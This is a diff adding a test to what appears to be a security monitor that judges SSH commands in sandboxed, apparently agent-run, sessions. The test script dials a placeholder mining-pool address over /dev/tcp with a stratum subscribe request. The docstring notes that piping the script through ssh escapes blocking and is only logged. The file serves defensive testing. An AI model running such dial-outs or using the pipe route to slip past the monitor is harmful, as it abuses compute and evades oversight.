@@ -164,3 +164,29 @@ def test_a_remote_command_that_dials_the_pool(lab: Lab,
     assert lab.shell_sessions() == sessions
     found = _verdicts(session, "tunnels.ssh_remote_egress", "pivot")
     assert found and "devtcp" in found[0].message
+
+
+def test_a_script_on_stdin_that_dials_the_pool(lab: Lab,
+                                               make_session: Callable[..., Session]) -> None:
+    """``ssh host < dial.sh``: no remote command on the command line; the remote login
+    shell runs the file. A file is read and judged: refused, nothing reaches the pool.
+    Fed through a pipe (``cat dial.sh | ssh host bash``), the script cannot be read:
+    recorded as ``tunnels.ssh_remote_stdin`` (medium) and NOT stopped — a documented
+    limit of judging SSH from outside its encryption."""
+    session = make_session(policy(SSH_ALLOWED), lab=True)
+    _trusted_key(lab, session)
+    session.write_file("/workspace/dial.sh",
+                       "exec 3<>/dev/tcp/203.0.113.33/3333\n"
+                       "printf '{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[]}\\n' >&3\n"
+                       "head -c 100 <&3\n")
+    pool, sessions = len(lab.pool_bytes()), lab.shell_sessions()
+    session.exec(f"timeout 10 ssh {SSH_OPTS} root@{RELAY} < /workspace/dial.sh; echo rc=$?",
+                 call_id="stdin-file")
+    assert len(lab.pool_bytes()) == pool
+    assert lab.shell_sessions() == sessions
+    found = _verdicts(session, "tunnels.ssh_remote_egress", "stdin-file")
+    assert found and "stdin script: devtcp" in found[0].message
+    session.exec(f"cat /workspace/dial.sh | timeout 10 ssh {SSH_OPTS} root@{RELAY} bash; "
+                 "echo rc=$?", call_id="stdin-pipe")
+    reported = _verdicts(session, "tunnels.ssh_remote_stdin", "stdin-pipe")
+    assert reported and reported[0].severity.name == "MEDIUM"
